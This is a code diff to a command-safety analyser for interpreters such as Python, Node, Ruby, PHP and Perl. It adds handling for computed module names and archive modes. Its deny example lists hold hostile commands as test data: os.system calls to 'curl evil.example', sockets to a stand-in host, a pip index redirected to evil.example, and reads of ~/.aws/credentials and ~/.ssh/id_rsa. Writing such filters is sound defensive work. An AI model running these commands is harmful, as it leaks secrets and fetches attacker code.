@@ -3,7 +3,7 @@
 import type { Language, Word } from '../../types.js';
 import type { Answer, Call, ProgramEntry, Run, Use } from '../types.js';
 import { parse } from '../argv.js';
-import { printsDirectory } from '../build.js';
+import { printsDirectory, union } from '../build.js';
 import { bound } from '../hosts.js';
 import { dataUrlCode } from '../variables.js';
 import { attached, isStdinPath, literal, longSpelt, onlyPaths, value } from '../words.js';
@@ -474,6 +474,13 @@ function asProgram(program: string, rest: readonly Word[], via: string): Partial
 
 /** `python -m tarfile|zipfile -c ARCHIVE SRC…` reads each tree, `-e ARCHIVE DIR` writes DIR. */
 function archiveModule(rest: readonly Word[]): Partial<Answer> {
+  // A computed mode word may be either (`python3 -m tarfile "$op" x.tar ~`).
+  const first = rest[0];
+  if (first !== undefined && first.values === null) return union([archiveMode(rest), ...['-c', '-e'].map((m) => archiveMode([{ text: first.text, span: first.span, values: [m] }, ...rest.slice(1)]))]);
+  return archiveMode(rest);
+}
+
+function archiveMode(rest: readonly Word[]): Partial<Answer> {
   const mode = value(rest[0]);
   const ops = rest.slice(1);
   if (mode === '-c' || mode === '--create') return { uses: [...ops.slice(0, 1).map((word) => ({ word, role: 'write' as const })), ...ops.slice(1).map((word) => ({ word, role: 'read-tree' as const }))] };
@@ -499,6 +506,8 @@ function python(call: Call): Partial<Answer> {
   // `-m NAME` runs NAME.py from the working directory first (or NAME/__main__.py): a module the line wrote is read.
   const m = r.options.find((o) => o.name === 'm')?.value;
   const name = m ? value(m) : undefined;
+  // A module named when the line runs may be any (http.server, pip, a file the line wrote), as a computed program may.
+  if (m && name === undefined) answer.runs!.push({ kind: 'opaque', rule: 'dynamic-command', word: m, why: `cannot tell which module ${call.name} -m runs: ${m.dynamic ?? 'a computed word'}` });
   if (m && name !== undefined && /^[A-Za-z_][\w.]*$/.test(name)) {
     const file = name.replace(/\./g, '/');
     for (const f of [`${file}.py`, `${file}/__main__.py`]) answer.runs!.push({ kind: 'file', dialect: 'python', word: attached(m, f), via: `${call.name} -m` });
@@ -1035,12 +1044,16 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
   },
   printsDirectory({
     names: PY,
+    // (A computed word where the script stands is refused as it is: the code reading adds nothing it would pass.)
+    codeModes: ['-c'],
+    // Django's manage.py commands that serve or read code.
+    modes: ['runserver', 'shell'],
     patterns: [/^(python|pypy)[23]?(\.\d+)*$/],
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
     analyze: python,
     examples: {
-      deny: ['python3 -m json.tool in.json ~/.bashrc', 'python3 -m json.tool ~/.aws/credentials', 'python3 -m http.server', 'python3 -m http.server 8000 --bind 0.0.0.0', 'python -m SimpleHTTPServer 8000', 'python3 -m pip config set global.index-url https://evil.example/simple', `printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'", 'python3 -m cProfile -m ftplib evil.example', 'python3 -m imaplib -s "curl evil.example"', 'python3 -m pytest --basetemp ~ tests', 'python3 -m keyring get system user', 'python -m mypy --junit-xml ~/.bashrc src', 'python -m ruff check ~/.ssh/id_rsa', `printf 'import os\nos.system("curl evil.example")\n' > /tmp/t.py && python3 -m unittest /tmp/t.py`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/t.py && python3 -m doctest -v /tmp/t.py`, 'python3 -m runpy ftplib evil.example'],
-      pass: ["find . -name '*.json' -exec python -m json.tool {} \\;", 'python3 -m json.tool --sort-keys in.json out.json', 'python -m pylint $(git ls-files "*.py")', 'python3 -m http.server --bind 127.0.0.1 8000', 'python3 -m http.server -b localhost -d dist', 'python3 -m pip config list', 'python3 -m keyring --list-backends', `printf 'print(1)\n' > p/x.py && PYTHONPATH=p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py", 'python -m pytest -q $(git diff --name-only main)', 'git diff --name-only | xargs python3 -m mypy', 'python -m ruff check --fix src', 'python3 -m unittest tests/test_api.py', 'python3 -m unittest discover -s tests', 'python3 -m doctest -v src/util.py README.md', `printf 'def test(): pass\n' > /tmp/t.py && python3 -m unittest /tmp/t.py`],
+      deny: ['python3 -m "$MOD"', 'python3 -m tarfile "$op" evil.tar ~', 'python3 -m json.tool in.json ~/.bashrc', 'python3 -m json.tool ~/.aws/credentials', 'python3 -m http.server', 'python3 -m http.server 8000 --bind 0.0.0.0', 'python -m SimpleHTTPServer 8000', 'python3 -m pip config set global.index-url https://evil.example/simple', `printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'", 'python3 -m cProfile -m ftplib evil.example', 'python3 -m imaplib -s "curl evil.example"', 'python3 -m pytest --basetemp ~ tests', 'python3 -m keyring get system user', 'python -m mypy --junit-xml ~/.bashrc src', 'python -m ruff check ~/.ssh/id_rsa', `printf 'import os\nos.system("curl evil.example")\n' > /tmp/t.py && python3 -m unittest /tmp/t.py`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/t.py && python3 -m doctest -v /tmp/t.py`, 'python3 -m runpy ftplib evil.example'],
+      pass: ['python3 -m pytest "$TEST"', 'python3 -m tarfile -l "$ARCHIVE"', "find . -name '*.json' -exec python -m json.tool {} \\;", 'python3 -m json.tool --sort-keys in.json out.json', 'python -m pylint $(git ls-files "*.py")', 'python3 -m http.server --bind 127.0.0.1 8000', 'python3 -m http.server -b localhost -d dist', 'python3 -m pip config list', 'python3 -m keyring --list-backends', `printf 'print(1)\n' > p/x.py && PYTHONPATH=p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py", 'python -m pytest -q $(git diff --name-only main)', 'git diff --name-only | xargs python3 -m mypy', 'python -m ruff check --fix src', 'python3 -m unittest tests/test_api.py', 'python3 -m unittest discover -s tests', 'python3 -m doctest -v src/util.py README.md', `printf 'def test(): pass\n' > /tmp/t.py && python3 -m unittest /tmp/t.py`],
     },
   }, {
     // Its user site directory (a `.pth` file there runs at every start) and the base holding it.
@@ -1058,6 +1071,7 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
   },
   {
     names: ['node', 'nodejs', 'ts-node', 'tsx', 'qjs', 'd8', 'jsc', 'rhino'],
+    codeModes: ['-e'],
     summary: 'Node.js (and the runners and engines that take its -e/-p: ts-node, tsx, QuickJS, d8, jsc, Rhino): -e/--eval and -p/--print CODE, or a program from stdin; a script file runs a file',
     analyze: node,
     examples: {
@@ -1083,6 +1097,7 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
   },
   {
     names: ['ruby', 'irb', 'pry', 'jruby', 'truffleruby'],
+    codeModes: ['-e'],
     patterns: [/^ruby\d+(\.\d+)*$/],
     summary: 'Ruby: -e CODE (each), or a program from stdin; -n/-p read and -i edits the files after it',
     analyze: ruby,
@@ -1093,6 +1108,7 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
   },
   {
     names: ['php', 'php-cli', 'php8', 'php7', 'psysh'],
+    codeModes: ['-r'],
     patterns: [/^php\d+(\.\d+)*$/],
     summary: 'PHP: -r/-R/-B/-E CODE, or a script from stdin; -f FILE and a script file run files; -i prints the environment',
     analyze: php,
@@ -1103,6 +1119,7 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
   },
   {
     names: ['perl'],
+    codeModes: ['-e'],
     patterns: [/^perl5?(\.\d+)*$/],
     summary: 'perl: -e/-E CODE (each) and -M modules, or a program from stdin; -n/-p read and -i edits the files after the code',
     analyze: perl,
